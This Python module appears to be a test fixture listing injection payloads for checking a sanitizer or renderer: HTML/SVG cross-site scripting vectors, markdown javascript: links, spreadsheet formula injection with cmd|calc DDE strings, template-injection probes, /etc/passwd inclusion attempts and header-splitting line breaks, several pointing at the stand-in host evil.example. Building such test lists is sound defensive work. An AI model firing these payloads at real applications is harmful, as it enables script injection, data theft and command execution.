"""Words that want to be something else: markup, a script, a link, a header, a formula, a template."""

from __future__ import annotations

RUN = "hacked()"
"""What every script of a payload calls; a page where it ran says so in ``window.ran``."""

_MARKUP = (
    *(f"<script>{RUN}</script>", f"<ScRiPt>{RUN}</sCrIpT>", f"<script >{RUN}</script\n>"),
    f"<svg onload={RUN}>",
    *(f"<img src=x onerror={RUN}>", f"<img/src=x/onerror={RUN}>", f"<img src=x onerror\n={RUN}>"),
    f"<p onclick={RUN}>",
    *(f"<body onload={RUN}>", f"<input autofocus onfocus={RUN}>", f"<video><source onerror={RUN}></video>"),
    *(f"<details open ontoggle={RUN}>", f"<iframe srcdoc='<script>{RUN}</script>'>"),
    "<iframe src=//evil.example>",
    *(f"<a href=javascript:{RUN}>a</a>", f"<a href='java\tscript:{RUN}'>a</a>"),
    f"<a href=' javascript:{RUN}'>a</a>",
    *(f"<math><mi xlink:href='javascript:{RUN}'>", "<object data=//evil.example>"),
    "<embed src=//evil.example>",
    *("<base href=//evil.example>", "<meta http-equiv=refresh content='0;url=//evil.example'>"),
    "<form action=//e>",
    *("<style>*{display:none}</style>", "<link rel=stylesheet href=//evil.example>"),
    "<button formaction=//e>b",
    *(f"<svg><script>{RUN}</script></svg>", f"<svg><a xlink:href='javascript:{RUN}'>x</a>"),
    f"<marquee onstart={RUN}>",
    *(f"<!--><img src=x onerror={RUN}>-->", f"<![CDATA[<script>{RUN}</script>]]>"),
    f"<?x <script>{RUN}</script>?>",
    *(f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>"),
    f"<template><script>{RUN}</script></template>",
    *(f"&lt;script&gt;{RUN}&lt;/script&gt;", f"&#60;script&#62;{RUN}&#60;/script&#62;"),
    f"＜script＞{RUN}＜/script＞",
    *(f"<x style=animation-name:a onanimationstart={RUN}>", f"<img srcset='x 1x' onerror={RUN}>"),
    "<img src=//e/p.gif>",
)
_ENTRIES = ("{}", '">{}', "'>{}", "</title></textarea></style></script>{}", "--> {}")
_MARKDOWN = (
    *(f"[a](javascript:{RUN})", f"[a](JaVaScRiPt:{RUN})", f"[a](java&#115;cript:{RUN})"),
    f"[a](&#x6A;avascript:{RUN})",
    *(f"[a](java\\script:{RUN})", f"[a](<javascript:{RUN}>)", f"[a][b]\n\n[b]: javascript:{RUN}"),
    f"<javascript:{RUN}>",
    *(f"![a](x)<img src=x onerror={RUN}>", "![a](//evil.example/p.gif)"),
    "![a](https://evil.example/p.gif)",
    *(f'[a](https://b.example "x" onclick="{RUN}")', f'[a](https://b.example "&quot; onclick={RUN}")'),
    *(f"[a](data:text/html,<script>{RUN}</script>)", f"[a](vbscript:{RUN})", "[a](//evil.example)"),
    "[a](\\\\evil)",
    *(f"`<script>{RUN}</script>", f"```\n</code><script>{RUN}</script>\n```"),
    f"~~~html\n<script>{RUN}</script>\n~~~",
    *(f"[a](https://b.example/{{: onclick={RUN} }})", f"# A {{: onclick={RUN} }}"),
    f"*a*{{: onclick={RUN} }}",
    *(f"<div markdown=1 onclick={RUN}>", f"[<img src=x onerror={RUN}>](https://b.example)", "[a](feed:x)"),
    *(f'<https://b.example/?"onclick={RUN}>', f"a | b\n-|-\n<script>{RUN}</script> | c"),
    "[a](file:///etc/passwd)",
)
_FORMULAS = (
    *("=1+1", '=HYPERLINK("//evil.example")', "@SUM(1)", "+1+cmd|' /C calc'!A0"),
    *("-2+3+cmd|' /C calc'!A0", "=cmd|'/C x'!A0"),
    *(" =1+1", "\t=1+1", "'=1+1", "a;=1+1", "a;@SUM(1)", "a\t=1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)"),
    *("a; +1+1", '";=1+1'),
)
_OTHERS = (
    *("{{ 7 * 7 }}", "{% include 'x' %}", "{{ config }}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "%s%n"),
    "{0.__class__}",
    *("---\ntitle: x\n---", '--8<-- "/etc/passwd"', "[TOC]", "*[HTML]: x", "[^1]", "!!! note"),
    *("::: x", "<!-- abstract -->"),
)
PAYLOADS = tuple(
    dict.fromkeys(
        (*(entry.format(each) for each in _MARKUP for entry in _ENTRIES), *_MARKDOWN, *_FORMULAS, *_OTHERS)
    )
)
BREAKS = ("\r\n", "\n", "\r", "\x0b", "\x0c", "\x1c", "\x1e", "\x85", "\u2028", "\u2029")
"""Ends of line of one standard or another: what begins a new header."""
